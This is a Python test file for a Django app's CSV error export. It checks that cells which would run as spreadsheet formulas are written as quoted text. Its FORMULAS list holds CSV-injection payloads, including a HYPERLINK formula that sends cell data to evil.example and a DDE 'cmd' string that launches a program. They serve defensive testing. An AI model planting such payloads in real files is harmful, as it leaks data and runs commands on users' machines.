"""CSV exports are safe to open in a spreadsheet: a cell that would run as a formula is written as text."""
from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from config.csv_export import spreadsheet_safe
from verifier.models import DeclarationBatch, ImportRowError

pytestmark = pytest.mark.django_db

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_it_neutralises_every_cell_of_the_error_export_that_a_spreadsheet_would_run(client, reviewer):
    batch = DeclarationBatch.objects.create(source=DeclarationBatch.Source.FILE, file_name="rows.csv")
    for row_number, formula in enumerate(FORMULAS, start=2):
        ImportRowError.objects.create(batch=batch, row_number=row_number, reason=formula, raw=f"{formula},1,,7318")
    client.force_login(reviewer)

    response = client.get(reverse("verifier:batch-errors", args=[batch.pk]))

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows[0] == ["row_number", "reason", "raw"]
    assert [row[0] for row in rows[1:]] == [str(number) for number in range(2, 2 + len(FORMULAS))]
    for (_, reason, raw), formula in zip(rows[1:], FORMULAS, strict=True):
        assert reason == "'" + formula
        assert raw == "'" + formula + ",1,,7318"


def test_it_leaves_ordinary_text_and_numbers_as_they_are():
    assert spreadsheet_safe("steel hex bolt M8 = 8 mm") == "steel hex bolt M8 = 8 mm"
    assert spreadsheet_safe("description is empty") == "description is empty"
    assert spreadsheet_safe(-3) == -3
    assert spreadsheet_safe("") == ""
